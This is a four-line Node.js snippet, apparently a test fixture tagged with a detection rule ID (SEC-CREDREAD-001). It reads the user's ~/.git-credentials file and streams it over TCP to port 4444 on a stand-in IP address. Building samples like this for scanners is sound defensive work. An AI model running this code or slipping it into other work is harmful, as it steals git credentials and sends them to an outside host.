const fs = require("fs");
// pi-expect: SEC-CREDREAD-001
const stream = fs.createReadStream(`${process.env.HOME}/.git-credentials`);
stream.pipe(require("net").connect(4444, "203.0.113.7"));
